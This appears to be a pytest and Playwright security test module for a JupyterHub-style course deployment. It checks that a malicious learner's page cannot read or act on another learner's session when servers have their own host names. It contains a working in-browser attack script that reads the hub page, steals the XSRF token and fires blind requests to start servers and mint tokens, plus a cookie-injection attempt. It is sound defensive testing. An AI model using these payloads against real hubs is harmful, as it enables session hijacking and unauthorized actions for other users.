"""What a page on one learner's server can do to whoever opens it, in real Chromium: with own host names, nothing.

The same attacks against a Hub where all share one address succeed, so it is known that they bite.
"""

import json
import shutil
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect, sync_playwright

from tests.fakes.running_hub import RunningHub, wait_for
from tests.functional.hub.conftest import KEY, SLUG, make_course, running_tool

EVE = "u-" + "e2" * 13
CARL = "u-" + "c2" * 13
"""Somebody whom no other test sends to the Hub: for a minute after a visit a server starts without asking."""
QUIET = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run"]
QUIZ = f"/open?course={KEY}&assignment=quiz-1"

ATTACK = """async ({hub, server, user}) => {
    const said = {}, pause = (ms) => new Promise((done) => setTimeout(done, ms));
    const attempt = async (name, deed) => {
        try { said[name] = await deed(); } catch (error) { said[name] = "refused"; }
    };
    const ask = (url, more) => fetch(url, {credentials: "include", ...more});
    const look = async (url) => {  // a window that is still empty is ours; then it is whose page it shows
        const other = window.open(url);
        try {
            for (let turn = 0; turn < 80; turn += 1) {
                await pause(100);
                const seen = other.document;
                if (seen.URL !== "about:blank" && seen.readyState === "complete") return seen.documentElement.outerHTML;
            }
            throw 0;
        } finally { other.close(); }
    };
    const frame = (url) => document.body.appendChild(Object.assign(document.createElement("iframe"), {src: url}));
    const plain = {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}};
    const post = (url, body) => ask(url, {...plain, body});
    let page = "";
    await attempt("read user", async () => { const answer = await ask(`${hub}/hub/api/user`);
        if (!answer.ok) throw answer; return answer.text(); });
    await attempt("read home", async () => (page = await look(`${hub}/hub/home`)));
    await attempt("frame home", async () => {
        const shown = frame(`${hub}/hub/home`);
        await new Promise((done) => { shown.onload = done; });
        return shown.contentDocument.body.innerHTML || "empty";
    });
    await attempt("read files", async () => { const answer = await ask(`${server}api/contents?content=1`);
        if (!answer.ok) throw answer; return answer.text(); });
    await attempt("read lab", () => look(`${server}lab`));
    await attempt("socket", () => new Promise((yes, no) => {
        const socket = new WebSocket(`${server.replace("http", "ws")}api/events/subscribe`);
        socket.onopen = () => yes("open");
        socket.onerror = no;
    }));
    await attempt("read cookie", async () => {
        if (/login|session/.test(document.cookie)) return document.cookie;
        throw 0;
    });
    // blind: the answers cannot be read, the deeds might still be done
    await attempt("blind", async () => {
        await post(`${hub}/hub/api/users/${user}/server`, "");
        await post(`${hub}/hub/api/users/${user}/tokens`, "{}");
        window.open(`${hub}/hub/spawn/${user}`);
        frame(`${hub}/hub/spawn/${user}`);
        document.body.appendChild(new Image()).src = `${hub}/hub/spawn/${user}`;
        const form = document.createElement("form");
        Object.assign(form, {method: "post", action: `${hub}/hub/spawn/${user}`});
        form.target = "_blank";
        document.body.append(form);
        form.submit();
        await pause(3000);
        throw 0;
    });
    await attempt("start", async () => {
        const token = page.match(/encodeURIComponent\\("([^"]+)"\\)/)[1];
        const answer = await ask(`${hub}/hub/api/users/${user}/server?_xsrf=${token}`, {method: "POST"});
        if (!answer.ok) throw answer;
        return String(answer.status);
    });
    return said;
}"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """One Chromium for the module."""
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=shutil.which("chromium"), args=QUIET)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def shared_hub(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningHub]:
    """A Hub whose servers all share its address."""
    data_dir = tmp_path_factory.mktemp("shared")
    make_course(data_dir / "courses" / SLUG)
    with running_tool() as tool:
        shared = RunningHub(data_dir, tool, subdomains=False)
        shared.start()
        yield with_people(shared)
        shared.close()


@pytest.fixture(scope="module")
def own_hub(hub: RunningHub) -> RunningHub:
    """The Hub whose people's servers have host names of their own."""
    return with_people(hub)


def with_people(hub: RunningHub) -> RunningHub:
    """The Hub, whose tool now knows both people."""
    hub.tool.add_person(EVE, "Eve", notebooks_101_7="learner")
    hub.tool.add_person(CARL, "Carl", notebooks_101_7="learner")
    return hub


def evil_page(hub: RunningHub) -> str:
    """Eve's server, with a page for everybody: her Jupyter configuration is hers."""
    home = hub.data_dir / "homes" / EVE
    home.parent.mkdir(mode=0o700, exist_ok=True)
    (home / ".jupyter").mkdir(parents=True, exist_ok=True)
    (home / "public").mkdir(exist_ok=True)
    (home / "public" / "free-answers.html").write_text("<!doctype html><title>Free answers</title><body>Hello</body>")
    served = {"ServerApp": {"extra_static_paths": ["/home/learner/public"]}}
    (home / ".jupyter" / "jupyter_server_config.json").write_text(json.dumps(served))
    eve = hub.visit(EVE, QUIZ)
    assert eve.last.status_code == 200
    return hub.address(f"/user/{EVE}/static/free-answers.html")


def come(browser: Browser, hub: RunningHub, name: str, next_path: str) -> Page:
    """Somebody with a browser of their own, who came from the tool."""
    page = browser.new_context(locale="en-GB", reduced_motion="reduce").new_page()
    page.set_default_timeout(60_000)
    page.goto(f"{hub.tool.url}/page/{hub.tool.ticket(name, next_path)}")
    return page


def attack(page: Page, hub: RunningHub, evil: str) -> dict[str, str]:
    """Open the page, and what its script got."""
    page.goto(evil)
    assert page.title() == "Free answers"
    server = hub.address(f"/user/{CARL}/")
    return dict(page.evaluate(ATTACK, {"hub": hub.url, "server": server, "user": CARL}))


def facts(hub: RunningHub) -> dict[str, Any]:
    """What the Hub holds of Carl: whether a server of his runs or starts, and how many tokens he made."""
    database = sqlite3.connect(hub.data_dir / "hub" / "jupyterhub.sqlite")
    servers = database.execute(
        "select count(*) from spawners s join users u on u.id = s.user_id where u.name = ? and s.server_id is not null",
        (CARL,),
    ).fetchone()
    tokens = database.execute(
        "select count(*) from api_tokens t join users u on u.id = t.user_id where u.name = ?"
        " and t.note like 'Requested via api%'",
        (CARL,),
    ).fetchone()
    database.close()
    return {"servers": servers[0], "tokens": tokens[0]}


def stop_server(hub: RunningHub) -> None:
    """So that starting it would be seen."""
    carl = hub.visit(CARL, "")
    carl.send("DELETE", "/hub/", f"api/users/{CARL}/server")
    wait_for(lambda: facts(hub)["servers"] == 0)


def test_a_page_on_another_host_name_neither_reads_nor_acts(own_hub: RunningHub, browser: Browser) -> None:
    evil = evil_page(own_hub)
    stop_server(own_hub)
    page = come(browser, own_hub, CARL, "")
    expect(page.get_by_role("heading", name="Your notebook servers")).to_be_visible()

    said = attack(page, own_hub, evil)
    assert {name for name, answer in said.items() if answer != "refused"} == set()
    assert {"read user", "read home", "read lab", "start", "blind"} <= set(said)
    assert facts(own_hub) == {"servers": 0, "tokens": 0}

    # a visit that her page makes him do ends at a button; with his own server running she reaches no more
    page.goto(evil)
    page.evaluate("(url) => { window.location = url; }", f"{own_hub.url}/hub/spawn/{CARL}")
    expect(page.get_by_role("heading", name="Your notebook server is not running")).to_be_visible()
    page.get_by_role("link", name="Start it").click()
    page.wait_for_url("**/lab**")
    said = attack(page, own_hub, evil)
    assert {name for name, answer in said.items() if answer != "refused"} == set()
    page.goto(own_hub.address(f"/user/{CARL}/lab"))
    page.wait_for_url("**/lab**")  # he is still signed in
    assert facts(own_hub) == {"servers": 1, "tokens": 0}


def test_a_server_cannot_give_its_visitor_another_login(own_hub: RunningHub, browser: Browser) -> None:
    """Cookies of a host name can be set from below it; `__Host-` cookies cannot."""
    evil = evil_page(own_hub)
    page = come(browser, own_hub, CARL, "")
    expect(page.get_by_role("heading", name="Your notebook servers")).to_be_visible()
    login = next(c for c in page.context.cookies(own_hub.url) if c["name"].endswith("hub-login"))
    assert login["name"].startswith("__Host-")
    page.goto(evil)
    page.evaluate(
        "(name) => { document.cookie = `${name}=hers; domain=hub.localhost; path=/; secure`; "
        "document.cookie = `${name}=hers; domain=hub.localhost; path=/hub/`; }",
        login["name"],
    )
    kept = [c for c in page.context.cookies(own_hub.url) if c["name"] == login["name"]]
    assert [c["value"] for c in kept] == [login["value"]]


def test_on_one_address_for_all_the_same_page_reads_and_acts(shared_hub: RunningHub, browser: Browser) -> None:
    """What is given up without host names, as docs/hub.md says; and the proof that the attacks work."""
    evil = evil_page(shared_hub)
    page = come(browser, shared_hub, CARL, "")
    expect(page.get_by_role("heading", name="Your notebook servers")).to_be_visible()
    said = attack(page, shared_hub, evil)
    assert CARL in said["read home"]
    assert "xsrf" in said["read home"]  # with which it may do whatever he may
    wait_for(lambda: facts(shared_hub)["servers"] == 1)
    assert said["frame home"] == "refused"


def test_without_host_names_the_hub_works_all_the_same(shared_hub: RunningHub, browser: Browser) -> None:
    page = come(browser, shared_hub, CARL, QUIZ)
    page.wait_for_url("**/quiz-1.ipynb")
    assert page.url.startswith(f"{shared_hub.url}/user/{CARL}/lab/tree/")
    assert Path(shared_hub.data_dir / "homes" / CARL / KEY / "quiz-1" / "quiz-1.ipynb").exists()
